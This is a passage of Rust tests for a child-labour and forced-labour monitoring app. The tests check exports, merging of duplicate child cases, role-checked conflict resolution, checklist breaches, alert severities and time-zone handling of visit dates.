            "Export \\ Nord"
        ])),
        "{:?}",
        tables[0].rows[0]
    );

    // For Excel in French: the same cells, apart by `;`, decimals with a comma, UTF-8 marked.
    let excel = dir.path().join("excel");
    as_role(&mut store, Role::Supervisor)
        .export_to_dir(&excel, ExportFormat::ExcelCsv, personal)
        .unwrap();
    let bytes = std::fs::read(excel.join("workplaces.csv")).unwrap();
    assert!(bytes.starts_with("\u{feff}".as_bytes()));
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let row = reader.records().next().unwrap().unwrap();
    let excel_cell =
        |column: &str| row[header.iter().position(|h| h == column).unwrap()].to_string();
    assert_eq!(excel_cell("longitude"), "-5,25");
    assert_eq!(excel_cell("buyers"), cell("workplaces.csv", "buyers"));
    assert_eq!(excel_cell("name"), cell("workplaces.csv", "name"));

    // A provider is free text: it may name a person, so pseudonymised exports leave it out.
    let out = dir.path().join("pseudonymised");
    as_role(&mut store, Role::Supervisor)
        .export_to_dir(&out, ExportFormat::Csv, ExportOptions::default())
        .unwrap();
    let text = std::fs::read_to_string(out.join("referrals.csv")).unwrap();
    assert!(
        !text.contains("Adjoa") && !text.contains("provider"),
        "{text}"
    );
    let (header, rows) = read_csv(&out.join("visits.csv"));
    let at = header
        .iter()
        .position(|h| h == "children_identified")
        .unwrap();
    assert_eq!(rows[0][at], "1");
}

#[test]
fn exports_show_the_next_follow_up_due_and_count_a_merged_child_once() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "hub.db", SUPERVISOR);
    let w = store
        .create(&Workplace::new(
            "Champ",
            "cocoa",
            Formality::Informal,
            area(C01),
        ))
        .unwrap();
    let v = store
        .create(&Visit::new(
            VisitKind::FollowUp,
            &w,
            MONITOR,
            at(2025, 9, 1, 9),
        ))
        .unwrap();
    // A case followed up before remediation: the follow-up plans the next one.
    let mut first = child(C01, "Kouamé Adjoa", MONITOR);
    first.identified_on_visit = Some(v.id);
    let first = store.create(&first).unwrap();
    let planned = FollowUp {
        next_due: Some(date(2025, 12, 1)),
        ..follow_up(date(2025, 9, 20))
    };
    let (first, _) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(first.id, planned)
        .unwrap();
    as_role(&mut store, Role::Supervisor)
        .refer_case(first.id, referral())
        .unwrap();
    // The same child registered again on the same visit, then merged.
    let mut again = child(C01, "ADJOA Kouame", MONITOR);
    again.identified_on_visit = Some(v.id);
    let again = store.create(&again).unwrap();
    let (_, dup_follow_up) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(again.id, follow_up(date(2025, 9, 10)))
        .unwrap();
    as_role(&mut store, Role::Supervisor)
        .merge_cases(first.id, again.id)
        .unwrap();
    let remediated = remediated_case(&mut store, "Yao Koffi", date(2025, 10, 15));
    let due: Vec<(Uuid, NaiveDate)> = store
        .follow_ups_due(None, None, date(2040, 1, 1), Page::first(50))
        .unwrap()
        .iter()
        .map(|d| (d.id, d.due))
        .collect();
    assert_eq!(
        due,
        vec![
            (first.id, date(2025, 12, 1)),
            (remediated.id, date(2026, 1, 15))
        ]
    );
    assert_eq!(
        store
            .indicators(&IndicatorFilter::default())
            .unwrap()
            .children
            .identified,
        2
    );

    for format in [ExportFormat::Csv, ExportFormat::Json] {
        let out = dir.path().join(format!("{format:?}"));
        as_role(&mut store, Role::Supervisor)
            .export_to_dir(&out, format, ExportOptions::default())
            .unwrap();
        let table = |name: &str| -> Vec<serde_json::Map<String, serde_json::Value>> {
            match format {
                ExportFormat::Json => {
                    let text = std::fs::read(out.join(format!("{name}.json"))).unwrap();
                    serde_json::from_slice::<Vec<_>>(&text).unwrap()
                }
                ExportFormat::Csv | ExportFormat::ExcelCsv => {
                    let (header, rows) = read_csv(&out.join(format!("{name}.csv")));
                    rows.into_iter()
                        .map(|r| {
                            header
                                .iter()
                                .cloned()
                                .zip(r.into_iter().map(serde_json::Value::String))
                                .collect()
                        })
                        .collect()
                }
            }
        };
        let text = |v: &serde_json::Value| match v {
            serde_json::Value::String(s) => s.clone(),
            serde_json::Value::Null => String::new(),
            other => other.to_string(),
        };
        let cases = table("child_cases");
        let row = |id: Uuid| {
            cases
                .iter()
                .find(|r| text(&r["id"]) == id.to_string())
                .unwrap()
                .clone()
        };
        // The next follow-up due, as the due lists show it; none for the duplicate.
        for (id, day) in &due {
            assert_eq!(
                text(&row(*id)["follow_up_due"]),
                day.to_string(),
                "{format:?}"
            );
        }
        assert_eq!(text(&row(again.id)["follow_up_due"]), "");
        assert_eq!(text(&row(again.id)["merged_into"]), first.id.to_string());
        assert_eq!(text(&row(first.id)["merged_into"]), "");
        // Counted without duplicates, as the indicators count: two children.
        let children = cases.iter().filter(|r| text(&r["merged_into"]).is_empty());
        assert_eq!(children.count(), 2);
        // The visit identified one child, registered twice.
        let visits = table("visits");
        assert_eq!(text(&visits[0]["children_identified"]), "1", "{format:?}");
        // The duplicate's follow-up, copied into the case kept, is listed once, there.
        let follow_ups = table("follow_ups");
        let copies: Vec<_> = follow_ups
            .iter()
            .filter(|r| text(&r["follow_up_id"]) == dup_follow_up.to_string())
            .collect();
        assert_eq!(copies.len(), 1, "{format:?}");
        assert_eq!(text(&copies[0]["case_id"]), first.id.to_string());
    }
}

#[test]
fn documents_written_before_the_new_fields_still_read() {
    // A case as an earlier version wrote it: none of the new keys.
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let c = store.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    let mut json = serde_json::to_value(&c).unwrap();
    let map = json.as_object_mut().unwrap();
    map.remove("merged_into");
    map.remove("merged_from");
    map.remove("follow_up_due");
    map.remove("remediated_on");
    let old: ChildCase = serde_json::from_value(json).unwrap();
    assert_eq!(old.follow_up_due, None);
    assert!(old.merged_from.is_empty());
}

/// Settling a conflict is a write like any other: a monitor settling a conflict between two
/// supervisors' verifications takes no step a monitor may not take (sending the case back to
/// referred or identified), and a supervisor's resolution keeps the rules of the record.
#[test]
fn a_conflict_resolution_is_checked_as_an_edit_is() {
    let dir = TempDir::new().unwrap();
    let mut first = open(&dir, "first.db", SUPERVISOR);
    let c = first.create(&child(C01, "Konan Yao", MONITOR)).unwrap();
    as_role(&mut first, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    as_role(&mut first, Role::CommunityMonitor)
        .transition_case_on(c.id, CaseStatus::ReceivingServices, date(2025, 10, 1))
        .unwrap();
    let mut second = open(&dir, "second.db", SUPERVISOR);
    second
        .merge_document(c.id, &first.export_document(c.id).unwrap())
        .unwrap();
    let mut monitor = open(&dir, "monitor.db", MONITOR);
    monitor
        .merge_document(c.id, &first.export_document(c.id).unwrap())
        .unwrap();
    as_role(&mut first, Role::Supervisor)
        .transition_case_on(c.id, CaseStatus::Withdrawn, date(2025, 11, 1))
        .unwrap();
    as_role(&mut second, Role::Supervisor)
        .transition_case_on(c.id, CaseStatus::Prevented, date(2025, 11, 2))
        .unwrap();
    for from in [&first, &second] {
        monitor
            .merge_document(c.id, &from.export_document(c.id).unwrap())
            .unwrap();
    }
    let conflicts = monitor.conflicts(c.id).unwrap();
    assert_eq!(
        conflicts.len(),
        2,
        "status and remediated_on: {conflicts:?}"
    );
    let status = vec!["status".to_string()];
    for back in ["referred", "identified", "receiving_services"] {
        let rule = not_allowed(
            as_role(&mut monitor, Role::CommunityMonitor).resolve_conflict(
                c.id,
                &status,
                &serde_json::json!(back),
            ),
        );
        assert!(rule.contains("only a supervisor"), "{back}: {rule}");
        assert_eq!(
            monitor.conflicts(c.id).unwrap(),
            conflicts,
            "nothing written"
        );
    }

    // A supervisor's resolution keeps the record's rules: a verification is not dated after
    // today, whichever way the date is written.
    for from in [&second, &monitor] {
        first
            .merge_document(c.id, &from.export_document(c.id).unwrap())
            .unwrap();
    }
    let remediated_on = vec!["remediated_on".to_string()];
    let later = (chrono::Utc::now().date_naive() + chrono::Days::new(400)).to_string();
    match as_role(&mut first, Role::Supervisor).resolve_conflict(
        c.id,
        &remediated_on,
        &serde_json::json!(later),
    ) {
        Err(Error::Validation(v)) => assert_eq!(v.field, "remediated_on", "{v}"),
        other => panic!("a verification dated after today: {other:?}"),
    }
    assert_eq!(first.conflicts(c.id).unwrap().len(), 2, "nothing written");
    first
        .resolve_conflict(c.id, &remediated_on, &serde_json::json!("2025-11-02"))
        .unwrap();
    first
        .resolve_conflict(c.id, &status, &serde_json::json!("prevented"))
        .unwrap();
    let settled: ChildCase = first.get(c.id).unwrap();
    assert_eq!(
        (settled.status, settled.remediated_on),
        (CaseStatus::Prevented, Some(date(2025, 11, 2)))
    );
    assert!(first.conflicts(c.id).unwrap().is_empty());
}

/// A referral recorded by mistake is removed by a supervisor; the last one of a case past
/// identified is not, or the case would stand referred with nothing to say so (and a hub that
/// never held it would find it never referred).
#[test]
fn the_last_referral_of_a_referred_case_stays_until_the_right_one_is_recorded() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", SUPERVISOR);
    let c = store.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    let (_, wrong) = as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    let mut without = store.get::<ChildCase>(c.id).unwrap();
    without.referrals.remove(&wrong);
    let rule = not_allowed(as_role(&mut store, Role::Supervisor).update(&without));
    assert!(rule.contains("keeps at least one referral"), "{rule}");
    assert_eq!(store.get::<ChildCase>(c.id).unwrap().referrals.len(), 1);
    // Once the right one is recorded, the wrong one goes.
    as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    let mut corrected = store.get::<ChildCase>(c.id).unwrap();
    corrected.referrals.remove(&wrong);
    let kept = as_role(&mut store, Role::Supervisor)
        .update(&corrected)
        .unwrap();
    assert_eq!(kept.referrals.len(), 1);
    assert_eq!(kept.status, CaseStatus::Referred);
}

/// A walk by sort keys (`*_after`, what the apps' page walks read) returns every row of each
/// list once, in the list's own order, whatever the page size: names that sort by the store's
/// collation (accents, case), equal dates told apart by the record.
#[test]
fn a_walk_by_sort_keys_reads_every_list_in_its_order() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    for name in [
        "Élevage Yao",
        "atelier Brou",
        "Atelier brou",
        "Zone B",
        "école",
        "Ecole",
    ] {
        let w = store
            .create(&Workplace::new(
                name,
                "cocoa",
                Formality::Informal,
                area(C01),
            ))
            .unwrap();
        for day in [3, 3, 4] {
            let mut v = Visit::new(
                VisitKind::LabourInspection,
                &w,
                MONITOR,
                at(2026, 2, day, 9),
            );
            v.forced_labour
                .insert(ForcedLabourIndicator::DebtBondage, String::new());
            store.create(&v).unwrap();
        }
    }
    for n in 0..7 {
        let mut c = child(C01, &format!("Enfant {n}"), MONITOR);
        c.identified_on = date(2026, 1, 1 + n / 2);
        store.create(&c).unwrap();
        if n % 2 == 0 {
            remediated_case(&mut store, &format!("Suivi {n}"), date(2025, 10, 15));
        }
    }
    fn walk<R: Clone + PartialEq + std::fmt::Debug>(
        limit: i32,
        mut read: impl FnMut(Option<&SortKey>, i32) -> vigie_core::Result<Walked<R>>,
    ) -> Vec<R> {
        let (mut all, mut after) = (Vec::new(), None);
        loop {
            let walked = read(after.as_ref(), limit).unwrap();
            let full = walked.rows.len() == limit as usize;
            all.extend(walked.rows);
            after = walked.last;
            if !full {
                return all;
            }
        }
    }
    let page = Page::first(500);
    let due_before = date(2030, 1, 1);
    for limit in [1, 2, 3, 500] {
        let q = WorkplaceQuery::default();
        assert_eq!(
            walk(limit, |k, l| store.workplaces_after(&q, k, l)),
            store.workplaces(&q, page).unwrap()
        );
        let q = VisitQuery::default();
        assert_eq!(
            walk(limit, |k, l| store.visits_after(&q, k, l)),
            store.visits(&q, page).unwrap()
        );
        let q = ChildCaseQuery::default();
        assert_eq!(
            walk(limit, |k, l| store.child_cases_after(&q, k, l)),
            store.child_cases(&q, page).unwrap()
        );
        assert_eq!(
            walk(limit, |k, l| store.alerts_after(None, k, l)),
            store.alerts(None, page).unwrap()
        );
        assert_eq!(
            walk(limit, |k, l| store.follow_ups_due_after(
                None,
                (None, None, due_before),
                k,
                l
            )),
            store.follow_ups_due(None, None, due_before, page).unwrap()
        );
    }
    assert_eq!(
        store
            .workplaces(&WorkplaceQuery::default(), page)
            .unwrap()
            .len(),
        6
    );
}

/// Checklists word their items both ways, and each item is breached by the answer its wording
/// says (the reference data's `breach`): "Children below the minimum age working" (CL01) by a
/// "yes", "Children enrolled and attending school" (CL03) by a "no". A farm where children
/// under age use machetes counts among the workplaces with violations, a clean one does not;
/// the ILO indicators answered "yes" on the forced-labour checklist are indicators found.
#[test]
fn checklist_items_are_breached_by_the_answer_their_wording_says() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "phone.db", SUPERVISOR);
    as_role(&mut store, Role::Supervisor);
    let answers = |list: &str, given: &[(&str, Answer)]| ChecklistAnswers {
        checklist: list.into(),
        version: 1,
        answers: given.iter().map(|(c, a)| (c.to_string(), *a)).collect(),
    };
    let mut visit_to = |name: &str, day: u32, checklist: ChecklistAnswers| {
        let place = store
            .create(&Workplace::new(
                name,
                "cocoa",
                Formality::Informal,
                area(C01),
            ))
            .unwrap();
        let mut v = Visit::new(
            VisitKind::LabourInspection,
            &place,
            SUPERVISOR,
            at(2026, 3, day, 8),
        );
        v.checklist = checklist;
        store.create(&v).unwrap()
    };
    use Answer::{No, Yes};
    let children_at_work = visit_to(
        "Plantation Konan",
        2,
        answers(
            "child-labour",
            &[("CL01", Yes), ("CL03", Yes), ("CL07", Yes), ("CL11", Yes)],
        ),
    );
    let clean = visit_to(
        "Plantation Aka",
        3,
        answers(
            "child-labour",
            &[("CL01", No), ("CL03", Yes), ("CL07", No), ("CL11", Yes)],
        ),
    );
    let out_of_school = visit_to(
        "Plantation Yao",
        4,
        answers("child-labour", &[("CL01", No), ("CL03", No)]),
    );
    let bonded = visit_to(
        "Campement de pêche",
        5,
        answers(
            "forced-labour",
            &[
                ("debt_bondage", Yes),
                ("retention_of_identity_documents", Yes),
                ("deception", No),
                ("isolation", No),
            ],
        ),
    );
    let household = visit_to(
        "Ménage Traoré",
        6,
        answers("forced-labour", &[("deception", No), ("isolation", No)]),
    );
    let register = visit_to(
        "Scierie",
        7,
        answers("labour-inspection", &[("LI01", Yes), ("LI09", No)]),
    );

    // What a write returns is what a read gives.
    assert_eq!(children_at_work.breaches, ["CL01", "CL07"]);
    let breaches = |v: &Visit| store.get::<Visit>(v.id).unwrap().breaches;
    assert_eq!(breaches(&children_at_work), ["CL01", "CL07"]);
    assert!(breaches(&clean).is_empty());
    assert_eq!(breaches(&out_of_school), ["CL03"]);
    assert_eq!(
        breaches(&bonded),
        ["debt_bondage", "retention_of_identity_documents"]
    );
    assert!(breaches(&household).is_empty());
    assert_eq!(breaches(&register), ["LI09"]);

    let ind = store.indicators(&IndicatorFilter::default()).unwrap();
    assert_eq!(
        ind.workplaces_with_violations, 4,
        "Konan, Yao, the fishing camp and the sawmill"
    );
    assert_eq!(ind.visits_with_forced_labour_indicators, 1);
    assert_eq!(ind.forced_labour_indicators["debt_bondage"], 1);
    assert_eq!(
        ind.forced_labour_indicators["retention_of_identity_documents"],
        1
    );
    let alerts = store.alerts(None, Page::first(10)).unwrap();
    let alerted: Vec<(Uuid, AlertSeverity)> = alerts.iter().map(|a| (a.id, a.severity)).collect();
    assert_eq!(
        alerted,
        [(bonded.id, AlertSeverity::ForcedLabourLikely)],
        "two strong indicators, no child counted"
    );
}

/// A visit that found forced-labour indicators where a child's case was opened is alerted
/// as children at work, head-count or not; a single weak indicator where children work ranks
/// above one among adults, below strong or several indicators where children work.
#[test]
fn a_visit_alerts_by_its_indicators_and_the_children_found_there() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "phone.db", SUPERVISOR);
    as_role(&mut store, Role::Supervisor);
    let mine = plantation(&mut store);
    let mut found = |day: u32, indicators: &[ForcedLabourIndicator], child: bool| {
        let v = store.create(&inspection(&mine, day, indicators)).unwrap();
        if child {
            let case = store.create(&child_of_visit(&v)).unwrap();
            let mut v = store.get::<Visit>(v.id).unwrap();
            v.children_identified.insert(case.id);
            store.update(&v).unwrap();
        }
        v.id
    };
    use ForcedLabourIndicator::*;
    let bonded_child = found(2, &[DebtBondage, RetentionOfIdentityDocuments], true);
    let overtime_child = found(3, &[ExcessiveOvertime], true);
    let overtime_adults = found(4, &[ExcessiveOvertime], false);
    let severity = |id: Uuid| {
        store
            .alerts(None, Page::first(20))
            .unwrap()
            .into_iter()
            .find(|a| a.id == id)
            .map(|a| a.severity)
    };
    use AlertSeverity::*;
    assert_eq!(severity(bonded_child), Some(WorstFormSuspected));
    assert_eq!(severity(overtime_child), Some(ForcedLabourLikely));
    assert_eq!(severity(overtime_adults), Some(ForcedLabourIndicators));
}

/// An inspector who ticks "Children below the minimum age working" (or heavy loads…) on the
/// child labour checklist of a visit that found forced-labour indicators, her head-count left
/// blank, found children at work there: the visit alerts so. A "no" to "Workers' ages
/// recorded" is a breach that says nothing of children.
#[test]
fn a_visit_whose_child_labour_checklist_saw_children_at_work_alerts_so() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "phone.db", SUPERVISOR);
    as_role(&mut store, Role::Supervisor);
    let farm = plantation(&mut store);
    let mut alerted = |day: u32, answers: &[(&str, Answer)]| {
        let mut v = inspection(&farm, day, &[ForcedLabourIndicator::DebtBondage]);
        v.checklist = ChecklistAnswers {
            checklist: CHILD_LABOUR_CHECKLIST.into(),
            version: 1,
            answers: answers
                .iter()
                .map(|(code, answer)| (code.to_string(), *answer))
                .collect(),
        };
        let v = store.create(&v).unwrap();
        store
            .alerts(None, Page::first(20))
            .unwrap()
            .into_iter()
            .find(|a| a.id == v.id)
            .map(|a| a.severity)
    };
    use AlertSeverity::*;
    assert_eq!(
        alerted(2, &[("CL01", Answer::Yes), ("CL03", Answer::Yes)]),
        Some(WorstFormSuspected)
    );
    assert_eq!(
        alerted(3, &[("CL06", Answer::Yes)]),
        Some(WorstFormSuspected)
    );
    assert_eq!(
        alerted(4, &[("CL01", Answer::No), ("CL11", Answer::No)]),
        Some(ForcedLabourLikely)
    );
}

/// An inspector who registers the child she found at a workplace with forced-labour
/// indicators may leave the head-count blank and name no child on the visit: the case opened
/// on the visit says children work there, and the visit alerts so while such a case names it
/// (the export counted the child, the alerts list did not).
#[test]
fn a_visit_alerts_as_one_where_children_work_while_a_case_is_opened_on_it() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "phone.db", SUPERVISOR);
    as_role(&mut store, Role::Supervisor);
    let mine = plantation(&mut store);
    use AlertSeverity::*;
    use ForcedLabourIndicator::*;
    let mut severities = Vec::new();
    for (day, indicators) in [(2, vec![DebtBondage]), (3, vec![Deception])] {
        let mut v = inspection(&mine, day, &indicators);
        v.workforce.male.adults = 5;
        let v = store.create(&v).unwrap();
        let severity = |store: &Store| {
            store
                .alerts(None, Page::first(20))
                .unwrap()
                .into_iter()
                .find(|a| a.id == v.id)
                .map(|a| a.severity)
        };
        let alone = severity(&store);
        let first = store.create(&child_of_visit(&v)).unwrap();
        let second = store.create(&child_of_visit(&v)).unwrap();
        let opened = severity(&store);
        // The visit edited afterwards still counts the cases opened on it.
        let mut edited = store.get::<Visit>(v.id).unwrap();
        edited.findings = "Carnets de dettes".into();
        store.update(&edited).unwrap();
        let after_edit = severity(&store);
        let mut moved = store.get::<ChildCase>(first.id).unwrap();
        moved.identified_on_visit = None;
        store.update(&moved).unwrap();
        let one_left = severity(&store);
        let mut moved = store.get::<ChildCase>(second.id).unwrap();
        moved.identified_on_visit = None;
        store.update(&moved).unwrap();
        severities.push([alone, opened, after_edit, one_left, severity(&store)]);
    }
    assert_eq!(
        severities,
        [
            [
                Some(ForcedLabourLikely),
                Some(WorstFormSuspected),
                Some(WorstFormSuspected),
                Some(WorstFormSuspected),
                Some(ForcedLabourLikely),
            ],
            [
                Some(ForcedLabourIndicators),
                Some(ForcedLabourLikely),
                Some(ForcedLabourLikely),
                Some(ForcedLabourLikely),
                Some(ForcedLabourIndicators),
            ],
        ]
    );
}

/// A child registered on a visit to a workplace was found at work there, as the visit's alert
/// counts her: a 9-year-old whose hours and tasks the inspector could not establish is child
/// labour, not "not working" beside a visit alerted for children at work; registered off any
/// visit with nothing noted, she is not working.
#[test]
fn a_child_registered_on_a_visit_is_classified_as_found_at_work() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "phone.db", SUPERVISOR);
    as_role(&mut store, Role::Supervisor);
    let farm = plantation(&mut store);
    let v = store
        .create(&inspection(&farm, 2, &[ForcedLabourIndicator::DebtBondage]))
        .unwrap();
    let mut found = child_of_visit(&v);
    found.date_of_birth = Some(date(2016, 6, 1));
    found.hours_per_week = 0;
    let found = store.create(&found).unwrap();
    let classified = |store: &Store| {
        let case: ChildCase = store.get(found.id).unwrap();
        case.classification.map(|c| (c.outcome, c.reason))
    };
    let (outcome, reason) = classified(&store).unwrap();
    assert_eq!(outcome, ClassificationOutcome::ChildLabour, "{reason}");
    let alerted = |store: &Store, id: Uuid| {
        store
            .alerts(None, Page::first(20))
            .unwrap()
            .iter()
            .any(|a| a.id == id)
    };
    assert!(alerted(&store, v.id));
    let counted = |store: &Store| {
        let filter = IndicatorFilter {
            area: None,
            from: Some(date(2025, 9, 1)),
            until: Some(date(2027, 1, 1)),
        };
        store.indicators(&filter).unwrap().children.in_child_labour
    };
    assert_eq!(counted(&store), 1);
    // Moved off the visit (registered there by mistake), nothing noted is work.
    let mut moved: ChildCase = store.get(found.id).unwrap();
    moved.identified_on_visit = None;
    store.update(&moved).unwrap();
    let (outcome, reason) = classified(&store).unwrap();
    assert_eq!(
        (outcome, reason.as_str()),
        (ClassificationOutcome::NotChildLabour, "not working")
    );
    assert_eq!(counted(&store), 0);
}

/// A supervisor's labour inspection of `place` on 2026-03-`day` that found `indicators`.
fn inspection(place: &Workplace, day: u32, indicators: &[ForcedLabourIndicator]) -> Visit {
    let mut v = Visit::new(
        VisitKind::LabourInspection,
        place,
        SUPERVISOR,
        at(2026, 3, day, 8),
    );
    for i in indicators {
        v.forced_labour.insert(*i, String::new());
    }
    v
}

/// A child of 13 whose case is opened on `visit`.
fn child_of_visit(visit: &Visit) -> ChildCase {
    let mut c = child(C01, "Moussa Diallo", SUPERVISOR);
    c.workplace_id = Some(visit.workplace_id);
    c.identified_on_visit = Some(visit.id);
    c
}

/// A visit's summary gives the day the visit started by its phone's clock, as its own page and
/// the indicators do: a visit at 00:30 on 1 December in Benin (UTC+1) was listed on
/// 30 November in the console's review queue and a workplace's visits.
#[test]
fn a_visits_summary_gives_its_own_day() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "phone.db", SUPERVISOR);
    as_role(&mut store, Role::Supervisor);
    let place = plantation(&mut store);
    let benin = chrono::FixedOffset::east_opt(3600).unwrap();
    let started = chrono::TimeZone::with_ymd_and_hms(&benin, 2026, 3, 1, 0, 30, 0).unwrap();
    let visit = store
        .create(&Visit::new(
            VisitKind::LabourInspection,
            &place,
            SUPERVISOR,
            started,
        ))
        .unwrap();
    let summaries = store
        .visits(&VisitQuery::default(), Page::first(10))
        .unwrap();
    let summary = summaries.iter().find(|v| v.id == visit.id).unwrap();
    assert_eq!(
        summary.started_on,
        chrono::NaiveDate::from_ymd_opt(2026, 3, 1).unwrap()
    );
    assert_eq!(summary.started_at, started.to_utc());
}

/// A visit is filed under its workplace's area: one filed in another community would reach
/// that community's monitors, who hold no such workplace, and be counted there. A visit filed
/// before its workplace moved keeps its area through later edits.
#[test]
fn a_visit_is_filed_under_its_workplaces_area() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "phone.db", SUPERVISOR);
    as_role(&mut store, Role::Supervisor);
    let place = plantation(&mut store);
    let mut elsewhere = Visit::new(
        VisitKind::LabourInspection,
        &place,
        SUPERVISOR,
        at(2026, 3, 2, 8),
    );
    elsewhere.area = area(C02);
    match store.create(&elsewhere) {
        Err(Error::Validation(e)) => assert_eq!(
            (e.field.as_str(), e.rule.as_str()),
            ("area", "must be the area of the workplace visited")
        ),
        other => panic!("{other:?}"),
    }
    let visit = store
        .create(&Visit::new(
            VisitKind::LabourInspection,
            &place,
            SUPERVISOR,
            at(2026, 3, 2, 8),
        ))
        .unwrap();
    let mut moved = store.get::<Workplace>(place.id).unwrap();
    moved.location.area = area(C02);
    store.update(&moved).unwrap();
    let mut edited = store.get::<Visit>(visit.id).unwrap();
    edited.findings = "Deux enfants au séchage.".into();
    let edited = store.update(&edited).unwrap();
    assert_eq!(edited.area, area(C01), "filed where the workplace was");
    let mut refiled = edited.clone();
    refiled.area = area("CI-R1-D1-C03");
    assert!(matches!(
        store.update(&refiled),
        Err(Error::Validation(e)) if e.field == "area" && e.rule.contains("workplace visited")
    ));
    refiled.area = area(C02);
    assert_eq!(store.update(&refiled).unwrap().area, area(C02));
}

/// A re-inspection planned at a visit leaves the due lists once an inspection or a follow-up
/// visit to the workplace is made, up to two weeks before the planned day (as a case's
/// follow-up answers one planned); a community monitor's round there does not answer it.
#[test]
fn a_planned_re_inspection_is_answered_by_the_next_inspection_of_its_workplace() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "phone.db", SUPERVISOR);
    as_role(&mut store, Role::Supervisor);
    let place = plantation(&mut store);
    let visit = |kind, day| Visit::new(kind, &place, SUPERVISOR, at(2026, 1, day, 9));
    let mut warned = visit(VisitKind::LabourInspection, 5);
    warned.actions.insert(VisitAction::Warning);
    warned.follow_up_due = Some(date(2026, 1, 30));
    let warned = store.create(&warned).unwrap();
    let due = |store: &Store| -> Vec<Uuid> {
        store
            .follow_ups_due_of(
                Some(RecordKind::Visit),
                None,
                None,
                date(2026, 3, 1),
                Page::first(10),
            )
            .unwrap()
            .iter()
            .map(|d| d.id)
            .collect()
    };
    assert_eq!(due(&store), [warned.id]);
    // A monitor's round, and a follow-up visit more than two weeks early: still due.
    store
        .create(&visit(VisitKind::CommunityMonitoring, 20))
        .unwrap();
    store.create(&visit(VisitKind::FollowUp, 15)).unwrap();
    assert_eq!(due(&store), [warned.id]);
    assert_eq!(
        store
            .follow_ups_due_count(Some(RecordKind::Visit), None, None, date(2026, 3, 1))
            .unwrap(),
        1
    );
    // The re-inspection, ten days early: a draft is not made yet; submitted, it is.
    let mut made = store.create(&visit(VisitKind::FollowUp, 20)).unwrap();
    assert_eq!(due(&store), [warned.id]);
    made.status = VisitStatus::Submitted;
    store.update(&made).unwrap();
    assert!(due(&store).is_empty());
    assert_eq!(
        store
            .follow_ups_due_count(Some(RecordKind::Visit), None, None, date(2026, 3, 1))
            .unwrap(),
        0
    );
}

/// A visit answers a planned re-inspection by the day it was made where it was made, as every
/// visit is dated: made at 00:30 on the fourteenth day before, at UTC+14 (the day before by
/// UTC), it answers it; made at 20:00 on the fifteenth day before, at UTC-11 (the fourteenth
/// by UTC), it does not.
#[test]
fn a_re_inspection_is_answered_by_the_local_day_of_the_visit() {
    use chrono::TimeZone;
    let dir = TempDir::new().unwrap();
    for (offset_hours, day, hour, answers) in [(14, 17, 0, true), (-11, 16, 20, false)] {
        let mut store = open(&dir, &format!("phone{offset_hours}.db"), SUPERVISOR);
        as_role(&mut store, Role::Supervisor);
        let place = plantation(&mut store);
        let mut warned = Visit::new(
            VisitKind::LabourInspection,
            &place,
            SUPERVISOR,
            at(2026, 11, 2, 9),
        );
        warned.actions.insert(VisitAction::Warning);
        warned.follow_up_due = Some(date(2026, 12, 1));
        let warned = store.create(&warned).unwrap();
        let zone = chrono::FixedOffset::east_opt(offset_hours * 3600).unwrap();
        let started = zone.with_ymd_and_hms(2026, 11, day, hour, 30, 0).unwrap();
        let mut later = Visit::new(VisitKind::FollowUp, &place, SUPERVISOR, started);
        later.status = VisitStatus::Submitted;
        store.create(&later).unwrap();
        let due = store
            .follow_ups_due_of(
                Some(RecordKind::Visit),
                None,
                None,
                date(2027, 1, 1),
                Page::first(10),
            )
            .unwrap();
        let still_due = due.iter().any(|d| d.id == warned.id);
        assert_eq!(
            still_due, !answers,
            "made at UTC{offset_hours:+} on the {day}th"
        );
    }
}

/// Two supervisors reviewing one visit at once, through the hub. Both returned it: its visitor
/// corrects and submits it again, which the hub takes (it was refused as settling a review,
/// for good). One validated, one returned: either supervisor keeps either review, the one the
/// merge did not show too (refused as a step from the review shown, "a visit is submitted by
/// its visitor"), and it reaches every phone.
#[test]
fn a_review_conflict_through_the_hub_is_settled_either_way_and_the_visitor_goes_on() {
    const OTHER: Uuid = Uuid::from_u128(0x0195_0000_0000_7000_8000_0000_0000_0a05);
    const VISITOR: Uuid = Uuid::from_u128(0x0195_0000_0000_7000_8000_0000_0000_0a06);
    let dir = TempDir::new().unwrap();
    let mut hub = common::hub_store(&dir.path().join("hub.db"));
    let mut visitor = open(&dir, "visitor.db", VISITOR);
    let mut one = open(&dir, "one.db", SUPERVISOR);
    let mut two = open(&dir, "two.db", OTHER);
    let as_visitor = common::principal_of(&visitor, Role::Inspector, &["CI-R1-D1"]);
    let as_one = common::principal_of(&one, Role::Supervisor, &["CI-R1"]);
    let as_two = common::principal_of(&two, Role::Supervisor, &["CI-R1"]);
    common::enrol_all(
        &mut hub,
        &mut [
            (&mut visitor, &as_visitor),
            (&mut one, &as_one),
            (&mut two, &as_two),
        ],
    );
    let sync_all = |visitor: &mut Store, one: &mut Store, two: &mut Store, hub: &mut Store| {
        for _ in 0..2 {
            common::sync(visitor, hub, &as_visitor);
            common::sync(one, hub, &as_one);
            common::sync(two, hub, &as_two);
        }
    };
    let w = plantation(&mut visitor);
    for (first, second) in [
        (
